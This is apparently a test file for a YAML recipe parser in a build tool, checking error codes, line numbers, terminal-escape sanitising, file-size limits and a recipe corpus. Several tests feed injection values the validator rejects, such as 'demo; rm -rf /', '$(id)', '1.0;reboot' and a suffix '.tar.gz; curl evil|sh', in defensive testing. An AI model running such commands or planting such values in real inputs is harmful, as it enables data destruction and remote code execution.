import { execFileSync } from 'node:child_process';
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { MAX_RECIPE_BYTES, loadRecipeDir, loadRecipeFile, loadRecipePaths, parseRecipe, recipeDigest } from './index';

const CORPUS = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../../shared/potions-recipes');

export const GOOD = `name: demo
version:
  source: "github-release:acme/demo"
  extract_pattern: 'v[0-9]+\\.[0-9]+\\.[0-9]+'
  cleanup: "v:"
build_type: custom
description: "A demo"
download:
  official_binary: true
  download_url: "https://example.com/demo/v{version}/demo-{version}-{os}-{arch}{suffix}"
  platforms:
    darwin-x86_64:
      os: macos
      suffix: ".tar.gz"
    darwin-arm64:
      os: macos
      suffix: ".tar.gz"
    linux-amd64:
      suffix: ".tar.gz"
    linux-arm64:
      suffix: ".tar.gz"
security:
  verify_signature: false
  scan_vulnerabilities: false
build:
  custom_install: |
    cp demo "$PREFIX/bin/"
dependencies: []
`;

const errorsOf = (text: string, file = 'recipes/demo.yml') => parseRecipe(text, file).issues.filter((i) => i.severity === 'error');

describe('parseRecipe', () => {
  it('reads a valid recipe into the typed model', () => {
    const r = parseRecipe(GOOD, 'recipes/demo.yml');
    expect(r.issues).toEqual([]);
    expect(r.recipe?.officialBinary).toBe(true);
    expect(r.recipe?.version.source).toEqual({ kind: 'github-release', repo: 'acme/demo' });
    expect(r.recipe?.build.timeoutMinutes).toBe(60);
  });

  it('reports invalid YAML with its line', () => {
    const [e] = errorsOf('name: demo\nversion: [unclosed\n');
    expect(e?.code).toBe('E_YAML');
    expect(e?.message).toMatch(/invalid YAML/);
    expect(e?.line).toBeGreaterThanOrEqual(2);
  });

  it('reports a duplicated key with its field and both lines', () => {
    const [e] = errorsOf(GOOD.replace('build_type: custom\n', 'build_type: custom\nbuild_type: make\n'));
    expect(e).toMatchObject({ code: 'E_YAML', field: 'build_type', line: 7 });
    expect(e?.message).toBe('the key "build_type" appears twice (lines 6 and 7); keys of a mapping must be unique, keep one');
    const nested = errorsOf(GOOD.replace('    linux-arm64:\n', '    linux-arm64:\n    linux-amd64:\n'));
    expect(nested).toMatchObject([{ code: 'E_YAML', field: 'download.platforms.linux-amd64', line: 21 }]);
    expect(nested[0]?.message).toContain('(lines 18 and 21)');
  });

  it('still runs the placeholder and platform checks when the schema fails', () => {
    const text = GOOD.replace(/version:\n( {2}.*\n)+/, '').replace('demo-{version}-{os}', 'demo-{versoin}-{os}').replace('      os: macos\n      suffix', '      Bad-Key: x\n      suffix');
    const errs = errorsOf(text);
    expect(errs.map((e) => [e.code, e.field])).toEqual([
      ['E_MISSING', 'version'],
      ['E_PLACEHOLDER', 'download.download_url'],
      ['E_PLATFORM_KEY', 'download.platforms.darwin-x86_64.Bad-Key'],
    ]);
    expect(errs[1]?.message).toContain('{versoin}');
    // Wrong types anywhere do not crash the extra checks.
    const odd = errorsOf('name: [1]\nversion: 5\nbuild_type: {a: 1}\ndownload: {download_url: 7, platforms: [1], mirrors: "x{y"}\nconfigure: 3\n');
    expect(odd.every((e) => e.code !== 'E_PLACEHOLDER')).toBe(true);
    expect(odd.length).toBeGreaterThan(3);
  });

  it('escapes and shortens the values it quotes: no raw bytes reach a terminal', () => {
    const garbage = Buffer.from([0xff, 0xfe, 0x1b, 0x5b, 0x32, 0x4a, 0x07, 0x00, 0xe2, 0x80, 0xae, ...Array(200).fill(0x41)]).toString('utf8');
    const [e] = errorsOf(garbage);
    expect(e?.code).toBe('E_YAML');
     
    expect(e?.message).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e\ufffd]/);
    expect(e?.message).toContain('\\u001b[2J');
    expect(e?.message).toMatch(/…"$/);
    expect(e?.message.length).toBeLessThan(160);
    const [name] = errorsOf(GOOD.replace('name: demo', 'name: "x\\e]0;pwned\\a"'));
    expect(name?.message).toContain('"x\\u001b]0;pwned\\u0007"');
    const [key] = parseRecipe(GOOD.replace('build:\n', '"k\\e[31m": 1\nbuild:\n'), 'recipes/demo.yml').issues;
    expect(key).toMatchObject({ code: 'W_UNKNOWN_KEY', field: 'k\\u001b[31m', message: 'unknown key "k\\u001b[31m" is ignored' });
  });

  it('checks static:VERSION with the clear version message, whatever follows the colon', () => {
    for (const bad of ['1.0 $(touch /tmp/x)', '1.0;ls', '']) {
      const e = errorsOf(GOOD.replace('"github-release:acme/demo"', JSON.stringify(`static:${bad}`))).find((i) => i.field === 'version.source');
      expect(e).toMatchObject({ code: 'E_VERSION', line: 3 });
      expect(e?.message).toBe(`static version ${JSON.stringify(bad)} is not a valid version: use letters, digits and . _ + - only, starting with a letter or digit, at most 128 characters`);
    }
  });

  it('shows a URL template as written when it is not an http(s) URL', () => {
    const [e] = errorsOf(GOOD.replace('https://example.com', 'ftp://example.com'));
    expect(e?.code).toBe('E_URL');
    expect(e?.message).toMatch(/^"ftp:\/\/example\.com\/demo\/v\{version\}\/demo-\{version\}-\{os\}-\{arch\}\{suffix\}" \(rendered for version 1\.2\.3: "ftp:/);
  });

  it('does not repeat the field name in front of a message', () => {
    const errs = errorsOf(GOOD.replace('dependencies: []', 'binary_relpath: /usr/bin/demo\nsecurity2: 1').replace('  scan_vulnerabilities: false', '  gpg_fingerprints: ["abc"]'));
    for (const e of errs) expect(e.message.startsWith(`${String(e.field?.split('.').pop())}`)).toBe(false);
    expect(errs.map((e) => [e.code, e.message])).toEqual([
      ['E_FINGERPRINT', '"abc": expected a 40-hex-digit OpenPGP fingerprint'],
      ['E_PATH', '"/usr/bin/demo" must be a relative path'],
    ]);
  });

  it.each([
    ['configure.flags with build_type make', 'build_type: make', 'configure:\n  flags: "--with-x"', 'configure.flags', /build_type make runs no configure step/],
    ['configure.flags with build_type custom', 'build_type: custom', 'configure:\n  flags: "--with-x"', 'configure.flags', /build_type custom runs no configure step/],
    ['cmake_flags with gnu_autotools', 'build_type: gnu_autotools', 'configure:\n  cmake_flags: "-DX=1"', 'configure.cmake_flags', /cmake only, and build_type is gnu_autotools/],
    ['cmake_flags when configure.script replaces cmake', 'build_type: cmake', 'configure:\n  script: "./c"\n  cmake_flags: "-DX=1"', 'configure.cmake_flags', /configure.script replaces/],
    ['make_args with meson', 'build_type: meson', 'build:\n  make_args: "V=1"', 'build.make_args', /build_type meson does not run/],
    ['make_args when both make steps are custom', 'build_type: make', 'build:\n  make_args: "V=1"\n  custom_build: "x"\n  custom_install: "y"', 'build.make_args', /replace both make steps/],
    ['flags with go and a custom build', 'build_type: go', 'configure:\n  flags: "-tags=x"\nbuild:\n  custom_build: "x"', 'configure.flags', /replaces the go build/],
  ])('warns W_NO_EFFECT for %s', (_what, type, extra, field, message) => {
    const text = `${GOOD.replace('build_type: custom', type).replace(/build:\n {2}custom_install: \|\n.*\n/, '').replace('official_binary: true', 'official_binary: false')}${extra}\n`;
    const r = parseRecipe(text, 'recipes/demo.yml');
    const w = r.issues.filter((i) => i.code === 'W_NO_EFFECT');
    expect(w.map((i) => i.field)).toEqual([field]);
    expect(w[0]?.message).toMatch(message);
  });

  it.each([
    ['make_args with cmake (passed to cmake --build)', 'build_type: cmake', 'build:\n  make_args: "V=1"'],
    ['make_args with make and only a custom build', 'build_type: make', 'build:\n  make_args: "V=1"\n  custom_build: "x"'],
    ['flags with cargo', 'build_type: cargo', 'configure:\n  flags: "--features=x"'],
    ['flags and cmake_flags with cmake', 'build_type: cmake', 'configure:\n  flags: "-DA=1"\n  cmake_flags: "-DB=2"'],
  ])('does not warn for %s', (_what, type, extra) => {
    const text = `${GOOD.replace('build_type: custom', type).replace(/build:\n {2}custom_install: \|\n.*\n/, '').replace('official_binary: true', 'official_binary: false')}${extra}\n`;
    expect(parseRecipe(text, 'recipes/demo.yml').issues.filter((i) => i.code === 'W_NO_EFFECT')).toEqual([]);
  });

  it('says that scan_vulnerabilities has no effect yet, where a scan is asked for', () => {
    const asked = parseRecipe(GOOD.replace('scan_vulnerabilities: false', 'scan_vulnerabilities: true'), 'recipes/demo.yml');
    expect(asked.recipe).toBeDefined();
    expect(asked.issues).toMatchObject([
      { severity: 'warning', code: 'W_NO_EFFECT', field: 'security.scan_vulnerabilities', line: 24, message: expect.stringContaining('no effect yet') },
    ]);
    expect(parseRecipe(GOOD, 'recipes/demo.yml').issues).toEqual([]);
    expect(parseRecipe(GOOD.replace('  scan_vulnerabilities: false\n', ''), 'recipes/demo.yml').issues).toEqual([]);
  });

  it('reports a missing name', () => {
    const [e] = errorsOf(GOOD.replace('name: demo\n', ''));
    expect(e).toMatchObject({ code: 'E_MISSING', field: 'name', message: 'missing required field "name"' });
  });

  it.each([['demo; rm -rf /'], ['../evil'], ['a/b'], ['$(id)'], ['-rf']])('rejects the name %j', (bad) => {
    const [e] = errorsOf(GOOD.replace('name: demo', `name: ${JSON.stringify(bad)}`));
    expect(e).toMatchObject({ code: 'E_NAME', field: 'name', line: 1 });
    expect(e?.message).toContain(bad);
  });

  it.each([['1.0;reboot'], ['1.0/../x'], ['`id`']])('rejects the static version %j', (bad) => {
    const text = GOOD.replace('"github-release:acme/demo"', JSON.stringify(`static:${bad}`));
    const e = errorsOf(text).find((i) => i.field === 'version.source');
    expect(e?.line).toBe(3);
    expect(e?.message).toMatch(/version|expected/);
  });

  it('rejects an unknown build_type and lists the known ones', () => {
    const [e] = errorsOf(GOOD.replace('build_type: custom', 'build_type: scons'));
    expect(e).toMatchObject({ code: 'E_BUILD_TYPE', field: 'build_type', line: 6 });
    expect(e?.message).toContain('gnu_autotools, cmake, make, custom, meson, cargo, go');
  });

  it('rejects an unknown placeholder naming field and value', () => {
    const [e] = errorsOf(GOOD.replace('{arch}{suffix}', '{arch}{flavour}'));
    expect(e).toMatchObject({ code: 'E_PLACEHOLDER', field: 'download.download_url', line: 10 });
    expect(e?.message).toContain('{flavour}');
  });

  it('rejects a platform key that is not one of the four, at its line', () => {
    const [e] = errorsOf(GOOD.replace('    linux-arm64:', '    linux-x86_64:'));
    expect(e).toMatchObject({ code: 'E_PLATFORM', field: 'download.platforms.linux-x86_64', line: 20 });
    expect(e?.message).toContain('darwin-x86_64, darwin-arm64, linux-amd64, linux-arm64');
  });

  it('rejects platform values that could carry shell or URL tricks', () => {
    const [e] = errorsOf(GOOD.replace('      suffix: ".tar.gz"\n    linux-arm64', '      suffix: ".tar.gz; curl evil|sh"\n    linux-arm64'));
    expect(e).toMatchObject({ code: 'E_PLATFORM_VALUE', field: 'download.platforms.linux-amd64.suffix', line: 19 });
  });

  it('needs every custom key a template uses on each platform', () => {
    const text = GOOD.replace('{arch}{suffix}', '{arch}-{target}{suffix}').replace('    linux-amd64:\n', '    linux-amd64:\n      target: gnu\n');
    const errs = errorsOf(text);
    expect(errs.map((e) => e.field)).toEqual(['download.platforms.darwin-x86_64', 'download.platforms.darwin-arm64', 'download.platforms.linux-arm64']);
    expect(errs[0]?.message).toContain('{target}');
  });

  it('reports a duplicate source_build dependency at its own line', () => {
    const text = `${GOOD.replace('dependencies: []\n', '')}source_build:
  download_url: "https://example.com/demo-{version}.tar.gz"
  build_type: make
  dependencies:
    - zlib
    - zlib
  build_dependencies: [demo]
`;
    const r = parseRecipe(text, 'recipes/demo.yml');
    expect(r.issues.map((i) => [i.code, i.field, i.line])).toEqual([
      ['W_DUPLICATE', 'source_build.dependencies.1', 33],
      ['E_DEPENDENCY', 'source_build.build_dependencies.0', 34],
    ]);
  });

  it('warns about unknown keys instead of dropping them silently', () => {
    const r = parseRecipe(GOOD.replace('build:\n', 'colour: blue\nbuild:\n  paralel: true\n'), 'recipes/demo.yml');
    expect(r.recipe).toBeDefined();
    expect(r.issues.map((i) => [i.code, i.field, i.line])).toEqual([
      ['W_UNKNOWN_KEY', 'colour', 25],
      ['W_UNKNOWN_KEY', 'build.paralel', 27],
    ]);
  });

  it('splits a folded flags block and a list into the same words, without a shell', () => {
    const folded = parseRecipe(
      `name: x
version: {source: "static:1.0"}
build_type: cmake
download: {download_url: "https://e.com/x-{version}.tgz", platforms: {linux-amd64: }}
configure:
  flags: >-
    -DA=clang;lld
    -DB="two words" '-DC=$HOME'
    --prefix=$PREFIX
build:
  make_args: "-j$(nproc)"
`,
      'x.yml',
    );
    expect(folded.recipe?.configure.flags).toEqual(['-DA=clang;lld', '-DB=two words', '-DC=$HOME', '--prefix=${PREFIX}']);
    expect(folded.recipe?.build.makeArgs).toEqual(['-j${JOBS}']);
    expect(folded.issues.map((i) => i.code)).toEqual(['W_VARIABLE']);
  });

  it('gives the same digest for the same recipe however it is laid out', () => {
    const a = parseRecipe(GOOD, 'a/demo.yml').recipe;
    const b = parseRecipe(`# comment\n${GOOD.replace('description: "A demo"\n', '')}description: "A demo"\n`, 'b/demo.yml').recipe;
    expect(a && recipeDigest(a)).toMatch(/^[0-9a-f]{64}$/);
    expect(a && recipeDigest(a)).toBe(b && recipeDigest(b));
    const c = parseRecipe(GOOD.replace('cleanup: "v:"', 'cleanup: "s/^v//"'), 'demo.yml').recipe;
    expect(c && recipeDigest(c)).not.toBe(a && recipeDigest(a));
  });
});

describe('the corpus', () => {
  it('reads all 246 recipes; only the known defects are errors', async () => {
    const loaded = await loadRecipeDir(CORPUS);
    expect(loaded).toHaveLength(246);
    const withErrors = loaded.filter((l) => l.issues.some((i) => i.severity === 'error')).map((l) => path.basename(l.file));
    // Documented in docs/recipe-corpus.md.
    expect(withErrors).toEqual(['jupyterlab.yml', 'k3s.yml']);
    const llvm = loaded.find((l) => l.name === 'llvm-git')?.recipe;
    expect(llvm?.configure.flags).toEqual([
      '-DLLVM_ENABLE_PROJECTS=clang;clang-tools-extra;lld',
      '-DLLVM_ENABLE_RUNTIMES=compiler-rt;libcxx;libcxxabi;libunwind',
      '-DCMAKE_BUILD_TYPE=Release',
      '-DLLVM_TARGETS_TO_BUILD=all',
    ]);
    expect(llvm?.configure.sourceDir).toBe('llvm');
    expect(llvm?.download).toMatchObject({ method: 'git', gitTagPrefix: 'llvmorg-' });
    const perl = loaded.find((l) => l.name === 'perl')?.recipe;
    expect(perl?.download.urls.map((u) => u.field)).toEqual(['download.download_url', 'download.mirror']);
    expect(loaded.find((l) => l.name === 'proto')?.recipe?.officialBinary).toBe(true);
  });
});

describe('reading recipe files', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await fs.mkdtemp(path.join(os.tmpdir(), 'potions-recipe-load-'));
  });
  afterEach(async () => fs.rm(dir, { recursive: true, force: true }));

  /** A sparse file: 200 MB on paper, nothing on disk. */
  const huge = async (name: string, size = 200 * 1024 * 1024): Promise<string> => {
    const file = path.join(dir, name);
    await fs.writeFile(file, GOOD);
    await fs.truncate(file, size);
    return file;
  };

  it('refuses a file over 1 MiB without reading it, naming file and size', async () => {
    const file = await huge('huge.yml');
    await expect(loadRecipeFile(file)).rejects.toMatchObject({
      code: 'E_RECIPE_TOO_LARGE',
      message: `recipe ${file} is 200.0 MiB; a recipe may be at most 1 MiB (1048576 bytes)`,
    });
    const edge = await huge('edge.yml', MAX_RECIPE_BYTES + 1);
    await expect(loadRecipeFile(edge)).rejects.toMatchObject({ code: 'E_RECIPE_TOO_LARGE' });
  });

  it('refuses a FIFO at once instead of waiting for a writer', async () => {
    const fifo = path.join(dir, 'pipe.yml');
    execFileSync('mkfifo', [fifo]);
    await expect(loadRecipeFile(fifo)).rejects.toMatchObject({ code: 'E_RECIPE_FILE', message: expect.stringContaining('not a regular file') });
  }, 10_000);

  it('in a folder, a file it cannot read is an error of that file; the others still load', async () => {
    await fs.writeFile(path.join(dir, 'demo.yml'), GOOD);
    await huge('huge.yml');
    const loaded = await loadRecipeDir(dir);
    expect(loaded.map((l) => [path.basename(l.file), l.issues.map((i) => i.code)])).toEqual([
      ['demo.yml', []],
      ['huge.yml', ['E_RECIPE_TOO_LARGE']],
    ]);
  });

  it('an empty folder is a clear error naming it', async () => {
    await fs.writeFile(path.join(dir, 'notes.txt'), 'not a recipe');
    await expect(loadRecipePaths([dir])).rejects.toMatchObject({ code: 'E_RECIPE_PATH', message: `${dir} holds no *.yml or *.yaml recipe` });
  });
});
